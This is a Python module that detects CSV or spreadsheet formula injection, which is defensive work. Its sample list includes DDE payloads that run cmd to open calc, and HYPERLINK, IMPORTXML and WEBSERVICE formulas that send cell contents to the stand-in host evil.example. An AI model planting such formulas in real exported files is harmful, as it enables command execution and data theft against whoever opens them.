"""Texts that a spreadsheet would run, and how to see that a cell is none of them."""

import csv
import io

FORMULAS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "|calc", "%0A=1", "'=1",
    "=cmd|' /C calc'!A0", "+cmd|' /C notepad'!'A1'", "-cmd|' /C calc'!A0", "@cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example/\"&A1,\"pay\")", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.example/\"&A1)", "+A1;=1+1",
)  # fmt: skip
"""Formulas, commands by dynamic data exchange, and those that blanks or an apostrophe stand before."""
_STARTS = frozenset("=+-@|%\t\r\n")
_BLANKS = " \u00a0"


def is_run(cell: str) -> bool:
    """Whether some spreadsheet may take a cell for a formula or a command. A negative amount is one, and harmless."""
    text = cell.lstrip(_BLANKS)
    return text[:1] in _STARTS and not _is_number(text)


def _is_number(text: str) -> bool:
    return text.lstrip("-").replace(".", "", 1).isdecimal()


def cells_of(text: str) -> list[list[str]]:
    """The cells of a CSV; rows that are not as long as the header fail."""
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert {len(row) for row in rows} <= {len(header)}, "a text became cells of its own"
    return [header, *rows]


def run_in(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would run."""
    return [cell for row in cells_of(text) for cell in row if is_run(cell)]
